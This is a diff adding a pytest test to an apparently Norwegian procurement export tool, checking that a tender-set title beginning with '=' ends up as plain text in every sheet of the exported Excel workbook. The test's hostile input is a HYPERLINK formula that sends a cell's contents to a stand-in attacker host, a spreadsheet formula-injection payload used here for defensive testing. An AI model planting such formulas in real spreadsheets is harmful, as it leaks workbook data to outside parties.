@@ -189,3 +189,16 @@ def test_set_from_json_and_filters_together_are_refused(
     assert document["tender_set"] == [{"id": "FJL-DEL-001", "kravtype": "V", "weight": 12.5}]
     assert main(["--catalogue", str(fixture_root), "export", "--set", str(json_set), "--level", "må"]) == 2
     assert "utelat --ids og filtrene" in capsys.readouterr().err
+
+
+def test_a_set_title_starting_with_equals_is_text_in_every_sheet(fixture_root: Path, tmp_path: Path) -> None:
+    title = '=HYPERLINK("https://angriper.example/?d="&Krav!E2,"Les vilkårene")'
+    hostile = tmp_path / "sett.yaml"
+    hostile.write_text(SET.read_text(encoding="utf-8").replace("Testkommunens journalanskaffelse", f"'{title}'"))
+    workbook = openpyxl.load_workbook(_export(fixture_root, tmp_path / "bilag.xlsx", "--set", str(hostile)))
+    about = {row[0].value: row[1] for row in workbook["Om eksporten"].iter_rows()}
+    cell = about["Utvalg"]
+    assert (cell.value, cell.data_type) == (f"{title}: kommunens utvalg (sett.yaml)", "s")
+    strings = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type in ("s", "n") for c in strings), [(c.coordinate, c.data_type) for c in strings]
+    assert any(c.data_type == "n" for c in strings)  # the weight stays a number
